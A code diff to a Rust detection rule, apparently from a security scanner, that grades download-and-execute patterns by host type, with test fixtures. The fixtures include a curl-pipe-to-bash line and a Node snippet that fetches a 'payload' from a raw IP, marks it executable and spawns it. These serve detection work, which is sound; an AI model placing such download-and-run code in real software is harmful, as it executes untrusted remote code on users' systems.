@@ -48,11 +48,13 @@ impl Rule for DownloadExecute {
             || file.text.contains("0o755") || file.text.contains("0o777") || file.text.contains("chmod +x");
         let spawns = facts.calls.iter().any(|call| is_process_call(&call.callee));
         let (Some(network), true, true) = (network, chmod, spawns) else { return };
-        let hosts: Vec<&str> = file_values.iter().filter(|value| value.text.len() < 500).filter_map(|value| url_host(value.text)).collect();
-        let unknown = hosts.iter().find(|host| is_public_ipv4(host) || !is_well_known_host(host) && host.contains('.') && !host.contains('$'));
-        let (severity, message) = match unknown {
-            Some(host) => (Severity::High, format!("downloads from `{host}`, makes the file executable and runs processes")),
-            None => (Severity::Medium, "downloads a file, makes it executable and runs processes".to_owned()),
+        let urls: Vec<&str> = file_values.iter().filter(|value| value.text.len() < 500 && value.text.contains("://")).map(|value| value.text).collect();
+        let raw_or_plain = urls.iter().find_map(|url| url_host(url).filter(|host| is_public_ipv4(host) || url.starts_with("http://") && !is_well_known_host(host)));
+        let unknown = urls.iter().find_map(|url| url_host(url).filter(|host| !is_well_known_host(host) && host.contains('.') && !host.contains('$')));
+        let (severity, message) = match (raw_or_plain, unknown) {
+            (Some(host), _) => (Severity::High, format!("downloads from `{host}` (raw IP or plain HTTP), makes the file executable and runs processes")),
+            (None, Some(host)) => (Severity::Medium, format!("downloads from `{host}`, makes the file executable and runs processes")),
+            (None, None) => (Severity::Low, "downloads a file from a well-known host, makes it executable and runs processes".to_owned()),
         };
         out.push(file.finding(&Self::META, severity, Confidence::Medium, Some(network.offset as usize), message, None));
     }
@@ -71,7 +73,7 @@ mod tests {
         ];
         let fail = vec![
             "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');".into(),
-            "const https = require('https'); const fs = require('fs'); const cp = require('child_process'); https.get('https://dl.evil-cdn.example/payload', (r) => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });".into(),
+            "const http = require('http'); const fs = require('fs'); const cp = require('child_process'); http.get('http://45.9.1.2/payload', (r) => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });".into(),
         ];
         test_rule(DownloadExecute::META.name, pass, fail);
     }
